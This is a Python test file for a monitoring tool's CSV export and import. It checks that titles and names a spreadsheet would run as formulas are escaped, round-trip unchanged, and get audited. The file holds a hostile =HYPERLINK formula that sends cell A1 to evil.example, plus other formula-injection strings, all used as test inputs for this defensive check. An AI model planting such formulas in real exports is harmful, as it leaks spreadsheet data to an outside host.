"""CSV injection: a title or a name that a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace

from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select

from endwatch.csvfile import safe_cell, unescape_cell
from endwatch.models import AuditRecord
from tests.monitoring.watch_support import CRACKDOWN, add_customer, rss

HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def _table(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _formula(cell: str) -> bool:
    number = cell.lstrip("+-").replace(".", "", 1).isdigit()
    return bool(cell) and cell[0] in "=+-@\t\r" and not number


def test_alerts_export_writes_a_hostile_title_as_text_and_is_audited(cli, session, tmp_path):
    add_customer(session, "Corvane Systems", kind="private")
    path = tmp_path / "feed.rss"
    path.write_bytes(rss(replace(CRACKDOWN, title=HOSTILE + " Corvane Systems interception gear")))
    cli("feeds", "ingest", str(path), "--name", "@Lantern", "--credibility", "0.9")
    table = _table(cli("alerts", "export", "--format", "csv").output)
    assert table, "the hostile entry raised no alert"
    assert table[0]["title"] == "'" + HOSTILE + " Corvane Systems interception gear"
    assert table[0]["feed"] == "'@Lantern"
    assert not any(_formula(cell) for row in table for cell in row.values())
    exports = session.scalars(select(AuditRecord.details).where(AuditRecord.action == "alerts.export")).all()
    assert [json.loads(d)["format"] for d in exports] == ["csv"]


def test_customers_export_escapes_formulas_and_imports_back_unchanged(cli, session, tmp_path):
    source = tmp_path / "customers.csv"
    source.write_text(
        "name,aliases,country,kind,notes\n"
        '"+Cmd Systems","=1+1;-SUM(A1)",GB,private,"@SUM(1) and \'=quoted"\n'
        "Ministry of Interior,,EG,government,-5\n",
        encoding="utf-8",
    )
    assert cli("customers", "import", str(source)).exit_code == 0
    exported = cli("customers", "export").output
    table = _table(exported)
    assert not any(_formula(cell) for row in table for cell in row.values())
    plus = next(row for row in table if "Cmd" in row["name"])
    assert plus["name"] == "'+Cmd Systems" and plus["notes"] == "'@SUM(1) and '=quoted"
    assert next(row for row in table if row["country"] == "EG")["notes"] == "-5"  # a number stays a number
    again = tmp_path / "again.csv"
    again.write_text(exported, encoding="utf-8")
    assert "0 created" in cli("customers", "import", str(again)).output
    assert cli("customers", "export").output == exported
    assert session.scalars(select(AuditRecord.action).where(AuditRecord.action == "customers.export")).all()


@given(st.text(max_size=30))
def test_no_written_cell_starts_a_formula_and_every_cell_reads_back(text):
    written = safe_cell(text)
    assert unescape_cell(written) == text
    assert not _formula(written)
